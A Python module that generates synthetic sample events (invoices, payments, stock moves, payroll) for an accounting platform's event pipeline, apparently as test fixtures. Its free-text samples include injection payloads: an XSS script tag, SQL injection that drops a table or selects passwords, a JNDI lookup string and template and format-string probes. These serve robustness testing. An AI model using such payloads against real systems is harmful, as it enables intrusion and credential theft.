"""What sample events say: for each event type a function that makes up its `data`. Pure: `Draw` holds all chance."""

from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from random import Random
from typing import Any, NamedTuple

NOTES = (
    "Pago de factura nº 2026/0413 — gracias 🙏",
    'Cliente "Peña & Muñoz, S.L." pide copia',
    "<p>Entrega <b>urgente</b> &amp; frágil</p><script>alert('hola')</script>",
    "Robert'); DROP TABLE events;-- ",
    "' OR 1=1 UNION SELECT username, password FROM users --",
    "Ruta C:\\facturas\\2026\\noviembre.pdf y tabulador\tdentro",
    "Línea uno\nlínea dos\n\n— fin",
    "日本語の請求書 · فاتورة · Счёт · ½ €",
    "👩‍👩‍👧‍👦 plan familiar 🇪🇸 100 % 🎉",
    "{{7*7}} ${jndi:ldap://example.invalid/a} %s %n",
    "Revisión trimestral de gastos de representación",
    "Sin incidencias",
    "",
)
"""Free text as customers write it, and as attackers do. All of it is legal and must reach MySQL unchanged."""

CONTROL_TEXT = "campo con\u0000nulo y\u0007campana"
"""Illegal characters: the worker takes them out and says so in metadata.sanitized."""

BIG_INTEGERS = (9007199254740993, 18446744073709551615, 9223372036854775807, 4611686018427387905)
"""Integers that a double cannot hold."""

_CURRENCIES = ("EUR", "EUR", "EUR", "EUR", "USD", "GBP", "MXN")
_CUSTOMERS = (
    "Panadería Núñez",
    "Talleres Iñigo, S.A.",
    "Güell Disseny",
    "O'Connor & Sons",
    "Łódź Software",
    "Ana Belén",
)
_PRODUCTS = (
    "Café de Colombia 1 kg",
    "Silla ergonómica «Añil»",
    'Monitor 27" 4K',
    "Licencia anual",
    "Hora de consultoría",
)
_CITIES = ("Barcelona", "A Coruña", "Logroño", "Cádiz", "Donostia", "México D.F.")
_VAT_RATES = (21, 21, 21, 10, 4, 0)


class Tenant(NamedTuple):
    """A customer account and the people who work in it."""

    account_id: str
    user_ids: tuple[str, ...]


@dataclass(frozen=True)
class Draw:
    """One source of chance and the moment of the event it is used for."""

    random: Random
    at: datetime

    def id(self) -> str:
        """Return a document id: 24 hexadecimal digits."""
        return f"{self.random.getrandbits(96):024x}"

    def one[T](self, options: tuple[T, ...]) -> T:
        """Return one of the options."""
        return options[self.random.randrange(len(options))]

    def count(self, low: int, high: int) -> int:
        """Return an integer from low to high, both included."""
        return self.random.randrange(low, high + 1)

    def money(self, low: int = 1, high: int = 5000) -> float:
        """Return an amount with two decimals, in units of its currency."""
        return self.random.randrange(low * 100, high * 100) / 100

    def day(self, after: int = 0) -> str:
        """Return the event's date moved by some days, as YYYY-MM-DD."""
        return (self.at + timedelta(days=after)).date().isoformat()

    def note(self) -> str:
        """Return free text."""
        return self.one(NOTES)

    def big(self) -> int:
        """Return an integer that a double cannot hold."""
        return self.one(BIG_INTEGERS)


def utc_text(moment: datetime) -> str:
    """Return an ISO 8601 time in UTC with milliseconds, e.g. 2026-10-01T09:30:00.000Z."""
    return moment.astimezone(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def _lines(draw: Draw) -> list[dict[str, Any]]:
    return [
        {
            "productId": draw.id(),
            "name": draw.one(_PRODUCTS),
            "units": draw.count(1, 12),
            "price": draw.money(1, 400),
            "tax": {"key": "s_iva", "rate": draw.one(_VAT_RATES)},
        }
        for _ in range(draw.count(1, 4))
    ]


def _document(draw: Draw, prefix: str) -> dict[str, Any]:
    lines = _lines(draw)
    subtotal = round(sum(line["units"] * line["price"] for line in lines), 2)
    tax = round(sum(line["units"] * line["price"] * line["tax"]["rate"] / 100 for line in lines), 2)
    return {
        "id": draw.id(),
        "number": f"{prefix}-2026-{draw.count(1, 9999):04d}",
        "contact": {"id": draw.id(), "name": draw.one(_CUSTOMERS)},
        "lines": lines,
        "subtotal": subtotal,
        "tax": tax,
        "amount": round(subtotal + tax, 2),
        "currency": draw.one(_CURRENCIES),
        "date": draw.day(),
        "dueDate": draw.day(30),
        "notes": draw.note(),
    }


def _transaction(draw: Draw) -> dict[str, Any]:
    return {
        "id": draw.id(),
        "bankAccountId": draw.id(),
        "amount": draw.one((1, 1, -1)) * draw.money(),
        "currency": draw.one(_CURRENCIES),
        "description": draw.note(),
        "bookedAt": draw.day(),
        "bankReference": draw.big(),
    }


def _payment(draw: Draw) -> dict[str, Any]:
    # The amount is text here, as it is in several public invoicing APIs.
    return {
        "id": draw.id(),
        "invoiceId": draw.id(),
        "amount": f"{draw.money():.2f}",
        "currency": draw.one(_CURRENCIES),
        "method": draw.one(("card", "transfer", "sepa_debit", "cash")),
        "paidAt": utc_text(draw.at),
        "gateway": {"name": "stripe", "traceNumber": draw.big(), "raw": {"status": "succeeded", "fee": None}},
    }


def _product(draw: Draw) -> dict[str, Any]:
    return {
        "id": draw.id(),
        "sku": f"SKU-{draw.count(1, 99999):05d}",
        "name": draw.one(_PRODUCTS),
        "description": draw.note(),
        "price": draw.money(1, 900),
        "currency": draw.one(_CURRENCIES),
        "barcode": str(draw.count(8_400_000_000_000, 8_499_999_999_999)),
        "tags": ["novedad", "otoño"],
        "variants": [{"id": draw.id(), "attributes": {"talla": size, "color": "añil"}} for size in ("S", "M")],
    }


def _stock(draw: Draw) -> dict[str, Any]:
    return {
        "id": draw.id(),
        "productId": draw.id(),
        "warehouse": {"id": draw.id(), "city": draw.one(_CITIES)},
        "quantityBefore": draw.count(0, 500),
        "quantityAfter": draw.count(0, 500),
        "reason": draw.one(("count", "breakage", "return", "transfer")),
        "movementNumber": draw.big(),
    }


def _person(draw: Draw) -> dict[str, Any]:
    name = draw.one(("Begoña Ruiz", "Íñigo Sáenz", "Zoë D'Angelo", "José Luis Ibáñez", "Aitana Vidal 🌻"))
    return {
        "id": draw.id(),
        "name": name,
        "email": f"user{draw.count(1, 999)}@example.com",
        "locale": draw.one(("es_ES", "ca_ES", "en_GB")),
        "role": draw.one(("admin", "accountant", "viewer")),
        "active": True,
    }


def _contact(draw: Draw) -> dict[str, Any]:
    return {
        "id": draw.id(),
        "name": draw.one(_CUSTOMERS),
        "vatNumber": f"B{draw.count(10_000_000, 99_999_999)}",
        "email": f"contacto{draw.count(1, 999)}@example.com",
        "address": {
            "street": "C/ d'Aribau, 15, 3º 1ª",
            "city": draw.one(_CITIES),
            "postalCode": "08011",
            "country": "ES",
        },
        "notes": draw.note(),
    }


def _project(draw: Draw) -> dict[str, Any]:
    return {
        "id": draw.id(),
        "name": f"Proyecto {draw.one(_CUSTOMERS)}",
        "budget": {"amount": draw.money(500, 90_000), "currency": "EUR"},
        "startDate": draw.day(),
        "endDate": draw.day(90),
        "description": draw.note(),
    }


def _work(draw: Draw) -> dict[str, Any]:
    return {
        "id": draw.id(),
        "projectId": draw.id(),
        "task": draw.note(),
        "durationSeconds": draw.count(60, 28_800),
        "billable": draw.one((True, False)),
        "costPerHour": draw.money(15, 120),
        "currency": "EUR",
    }


def _journal(draw: Draw) -> dict[str, Any]:
    amount = draw.money()
    return {
        "id": draw.id(),
        "entryNumber": draw.big(),
        "date": draw.day(),
        "amount": amount,
        "currency": "EUR",
        "lines": [
            {"account": "43000001", "debit": amount, "credit": 0, "description": draw.note()},
            {"account": "70000000", "debit": 0, "credit": amount, "description": "Ventas de mercaderías"},
        ],
    }


def _tax_report(draw: Draw) -> dict[str, Any]:
    return {
        "id": draw.id(),
        "model": draw.one(("303", "111", "347")),
        "period": {"year": 2026, "quarter": draw.count(1, 4)},
        "amount": draw.money(100, 20_000),
        "currency": "EUR",
        "submittedAt": utc_text(draw.at),
    }


def _deal(draw: Draw) -> dict[str, Any]:
    return {
        "id": draw.id(),
        "funnel": "Ventas España",
        "stage": draw.one(("nuevo", "propuesta", "negociación", "ganado")),
        "value": draw.money(100, 60_000),
        "currency": draw.one(_CURRENCIES),
        "probability": draw.one((0.1, 0.25, 0.5, 0.9)),
        "notes": draw.note(),
    }


def _time_off(draw: Draw) -> dict[str, Any]:
    return {
        "id": draw.id(),
        "employeeId": draw.id(),
        "kind": draw.one(("vacaciones", "baja médica", "asuntos propios")),
        "from": draw.day(7),
        "to": draw.day(14),
        "comment": draw.note(),
    }


def _payroll(draw: Draw) -> dict[str, Any]:
    return {
        "id": draw.id(),
        "employeeId": draw.id(),
        "month": draw.at.strftime("%Y-%m"),
        "gross": draw.money(1500, 6000),
        "amount": draw.money(1200, 4500),
        "currency": "EUR",
        "iban": "ES9121000418450200051332",
    }


class EventType(NamedTuple):
    """A sample event type and what makes up its data."""

    context: str
    aggregate: str
    name: str
    data: Callable[[Draw], dict[str, Any]]

    @property
    def full_name(self) -> str:
        r"""Return headers.type, Holded\{Context}\Domain\{Aggregate}\Events\{Name}Event."""
        return rf"Holded\{self.context}\Domain\{self.aggregate}\Events\{self.name}Event"


EVENT_TYPES = (
    EventType("Wallet", "Transaction", "WalletTransactionCreated", _transaction),
    EventType("Wallet", "Transaction", "WalletTransactionReconciled", _transaction),
    EventType("Wallet", "BankAccount", "BankAccountConnected", _transaction),
    EventType("Invoicing", "Invoice", "InvoiceCreated", lambda draw: _document(draw, "F")),
    EventType("Invoicing", "Invoice", "InvoiceSent", lambda draw: _document(draw, "F")),
    EventType("Invoicing", "Payment", "InvoicePaid", _payment),
    EventType("Invoicing", "CreditNote", "CreditNoteIssued", lambda draw: _document(draw, "R")),
    EventType("Sales", "Estimate", "EstimateCreated", lambda draw: _document(draw, "P")),
    EventType("Sales", "Estimate", "EstimateAccepted", lambda draw: _document(draw, "P")),
    EventType("Sales", "SalesOrder", "SalesOrderConfirmed", lambda draw: _document(draw, "SO")),
    EventType("Purchases", "Purchase", "PurchaseReceived", lambda draw: _document(draw, "C")),
    EventType("Products", "Product", "ProductCreated", _product),
    EventType("Products", "Product", "ProductUpdated", _product),
    EventType("Products", "Product", "ProductDeleted", _product),
    EventType("Inventory", "Stock", "StockAdjusted", _stock),
    EventType("Inventory", "Stock", "StockTransferred", _stock),
    EventType("Inventory", "Warehouse", "WarehouseCreated", _stock),
    EventType("Users", "User", "UserRegistered", _person),
    EventType("Users", "User", "UserLoggedIn", _person),
    EventType("Team", "Member", "MemberInvited", _person),
    EventType("Team", "Member", "MemberRoleChanged", _person),
    EventType("Projects", "Project", "ProjectCreated", _project),
    EventType("Projects", "Task", "TaskCompleted", _work),
    EventType("Projects", "TimeEntry", "TimeEntryLogged", _work),
    EventType("Accounting", "JournalEntry", "JournalEntryPosted", _journal),
    EventType("Accounting", "TaxReport", "TaxReportSubmitted", _tax_report),
    EventType("Contacts", "Contact", "ContactCreated", _contact),
    EventType("Contacts", "Contact", "ContactUpdated", _contact),
    EventType("Crm", "Lead", "LeadWon", _deal),
    EventType("Crm", "Lead", "LeadStageChanged", _deal),
    EventType("HumanResources", "Employee", "EmployeeHired", _person),
    EventType("HumanResources", "TimeOff", "TimeOffRequested", _time_off),
    EventType("HumanResources", "Payroll", "PayrollApproved", _payroll),
)
"""Every type a sample event can have."""
